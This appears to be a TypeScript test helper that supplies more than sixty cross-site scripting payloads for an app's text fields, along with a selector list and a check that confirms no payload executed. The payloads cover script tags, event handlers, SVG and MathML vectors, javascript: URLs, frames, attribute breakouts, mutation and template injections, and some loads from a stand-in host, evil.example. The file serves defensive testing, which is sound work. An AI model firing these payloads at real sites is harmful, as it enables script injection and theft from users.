/**
 * Hostile texts for every text field. If a page inserted one of them as HTML, it would set `window.__xss`, open a
 * dialog, send a request to another host, or leave an element that only markup can create.
 */
import { expect } from "bun:test";
import type { Page } from "playwright-core";
import { faultsOf } from "../faults.ts";

declare const document: any; // Global of the page, in which the functions below run.

const run = "window.__xss=1";
const host = "//evil.example/xss";

const scripts = [
  `<script>${run}</script>`,
  `<ScRiPt>${run}</sCrIpT >`,
  `<script src=${host}.js></script>`,
  `<script type=module>${run}</script>`,
  `</title><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `</style><script>${run}</script>`,
  `--><script>${run}</script><!--`,
  `]]><script>${run}</script>`,
  `</script><script>${run}//`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
];

const handlers = [
  `<img src=x onerror=${run}>`,
  `<img src=x onerror="alert(1)">`,
  `<img/src=x/onerror=${run}>`,
  `<IMG SRC=x OnErRoR=&#119;indow.__xss=1>`,
  `<body onload=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<details open ontoggle=${run}>`,
  `<video src=x onerror=${run}></video>`,
  `<audio autoplay src=x onerror=${run}>`,
  `<video><source onerror=${run}></video>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<div style="animation:spin 1s" onanimationstart=${run}>x</div>`,
  `<b onmouseover=${run} onclick=${run} onpointerdown=${run}>touch</b>`,
];

const vectors = [
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to=javascript:${run}>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${run}'/>#x"/></svg>`,
  `<svg><foreignObject><img src=x onerror=${run}></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
];

const addresses = [
  `javascript:${run}`,
  `JaVaScRiPt:alert(1)`,
  ` \tjava\tscript:${run}`,
  `javascript://example.com/%0A${run}`,
  `data:text/html,<script>${run}</script>`,
  `<a href="javascript:${run}">touch</a>`,
  `[touch](javascript:${run})`,
  `![x](${host}.png)`,
  `<form action=javascript:${run}><button>Send</button></form>`,
  `<base href=${host}/>`,
  `<meta http-equiv=refresh content="0;url=${host}">`,
  `<link rel=stylesheet href=${host}.css>`,
];

const frames = [
  `<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`,
  `<iframe src="javascript:parent.__xss=1"></iframe>`,
  `<object data="data:text/html,<script>${run}</script>"></object>`,
  `<embed src=${host}>`,
];

const attributes = [
  `" onfocus="${run}" autofocus="`,
  `' onfocus='${run}' autofocus='`,
  `"><img src=x onerror=${run}>`,
  `'><svg/onload=${run}>`,
  "`><img src=x onerror=window.__xss=1>",
  `\\"><script>${run}</script>`,
];

const mutations = [
  `<template><img src=x onerror=${run}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}>`,
  `<p title="<!--"><img src=x onerror=${run}>--></p>`,
];

const styles = [
  `<style>@import url(${host}.css);</style>`,
  `red;background:url(${host}.png)`,
  `</style><style>*{background:url(${host}.png)}`,
];

const templates = [
  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is what is tried
  "${window.__xss=1}",
  "{{constructor.constructor('window.__xss=1')()}}",
  "<%= window.__xss=1 %>",
  `'+(${run})+'`,
  `";${run};//`,
  `{"__proto__":{"__xss":1},"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${run}>"}}`,
];

const letters = [
  `\uff1cscript\uff1e${run}\uff1c/script\uff1e`,
  `\u003cimg src=x onerror=${run}\u003e\u202e`,
  `&lt;img src=x onerror=${run}&gt;`,
  `%3Cimg%20src%3Dx%20onerror%3D${run}%3E`,
  `<\u200bimg src=x onerror=${run}>`,
  `<img src=x \u2028onerror=${run}>`,
];

/** Hostile texts: more than sixty, all different. Each fits into a field of 100 characters. */
export const payloads: readonly string[] = [
  ...[scripts, handlers, vectors, addresses, frames],
  ...[attributes, mutations, styles, templates, letters],
].flat();

/**
 * Elements that the app itself never creates. Injected markup would create them, even if the Content-Security-Policy
 * blocks its scripts.
 */
export const onlyByMarkup = [
  ...["iframe", "object", "embed", "base", "meta[http-equiv=refresh]", "marquee", "math", "foreignObject"],
  ...["body style", "body script:not([src])", `[href^="javascript:" i]`, `[action^="javascript:" i]`, "[srcdoc]"],
  ...[`[src*="evil.example"]`, `[href*="evil.example"]`, `[style*="evil.example"]`, `img[src="x"]`],
].join(", ");

/**
 * Expects that the page executed no hostile text: no script, request or dialog, and no element or handler from such a
 * text. First check that the page shows the texts (`await page.getByText(payload).waitFor()`).
 */
export async function expectNothingExecuted(page: Page): Promise<void> {
  expect(await executedMarkup(page)).toEqual([]);
}

/** Returns signs that the page executed a hostile text as markup. */
export async function executedMarkup(page: Page): Promise<string[]> {
  const found = await page.evaluate((selectors): string[] => {
    const isSet = document.defaultView.__xss !== undefined ? ["window.__xss is set"] : [];
    const elements: any[] = [...document.querySelectorAll("*")];
    const alive = elements.filter(
      (each) => each.matches(selectors) || [...each.attributes].some(({ name }: any) => name.startsWith("on")),
    );
    return [...isSet, ...alive.map((each) => `alive: ${each.outerHTML.slice(0, 160)}`)];
  }, onlyByMarkup);
  const faults = await faultsOf(page);
  const told = faults.filter((fault) => /^(dialog|request to another)|Content-Security-Policy/.test(fault));
  return [...found, ...told];
}
